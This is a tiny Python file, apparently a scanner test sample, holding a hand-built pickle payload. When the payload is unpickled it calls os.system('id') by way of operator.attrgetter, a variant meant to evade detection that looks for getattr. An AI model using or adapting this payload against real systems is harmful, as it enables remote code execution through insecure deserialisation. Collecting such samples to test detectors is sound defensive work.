"""`operator.attrgetter` in place of `getattr`."""

PAYLOAD = b"\x80\x04\x8c\x08operator\x8c\nattrgetter\x93(\x8c\x06systemtR\x8c\x08builtins\x8c\n__import__\x93(\x8c\x02ostR\x85R\x8c\x02id\x85R."
